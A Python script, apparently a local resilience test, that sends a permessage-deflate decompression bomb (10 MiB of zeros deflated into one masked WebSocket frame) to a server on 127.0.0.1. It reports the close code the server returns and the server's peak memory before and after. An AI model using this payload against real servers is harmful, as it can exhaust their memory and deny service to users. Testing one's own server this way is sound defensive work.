#!/usr/bin/env python3
# Usage: zip_bomb.py PORT SERVER_PID (a server on 127.0.0.1:PORT offering permessage-deflate).
# A permessage-deflate "zip bomb": 10 MiB of zeros compressed (raw deflate, sync flush, tail
# stripped) into one masked binary frame with RSV1; prints the wire size, the close code the
# server answers, and the server's peak RSS (VmHWM) before and after.
import os, socket, struct, sys, time, zlib
port, pid = int(sys.argv[1]), int(sys.argv[2])
def hwm():
    for l in open(f"/proc/{pid}/status"):
        if l.startswith(("VmHWM", "VmRSS")): yield l.split()[0] + l.split()[1]
print("before:", list(hwm()))
c = zlib.compressobj(9, zlib.DEFLATED, -15)
comp = c.compress(bytes(10 * 1024 * 1024)) + c.flush(zlib.Z_SYNC_FLUSH)
comp = comp[:-4]
s = socket.create_connection(("127.0.0.1", port), timeout=10)
s.sendall(b"GET / HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Extensions: permessage-deflate\r\n\r\n")
buf = b""
while b"\r\n\r\n" not in buf: buf += s.recv(4096)
head, buf = buf.split(b"\r\n\r\n", 1)
print([l for l in head.decode().split("\r\n") if "xtensions" in l.lower()])
mask = os.urandom(4)
n = len(comp)
hdr = bytes([0x80 | 0x40 | 2, 0x80 | 126]) + struct.pack("!H", n) if n < 65536 else bytes([0xC2, 0x80 | 127]) + struct.pack("!Q", n)
s.sendall(hdr + mask + bytes(b ^ mask[i % 4] for i, b in enumerate(comp)))
print("sent", n, "bytes of compressed payload for", 10 * 1024 * 1024, "inflated")
deadline = time.time() + 10
while time.time() < deadline:
    d = s.recv(65536)
    if not d: break
    buf += d
    if len(buf) >= 2 and (buf[0] & 0x0f) == 8 and len(buf) >= 2 + (buf[1] & 0x7f): break
if len(buf) >= 4 and (buf[0] & 0x0f) == 8:
    print("close frame, code", struct.unpack("!H", buf[2:4])[0], buf[4:2 + (buf[1] & 0x7f)])
else:
    print("no close frame; got", len(buf), "bytes:", buf[:40])
time.sleep(0.5)
print("after:", list(hwm()))
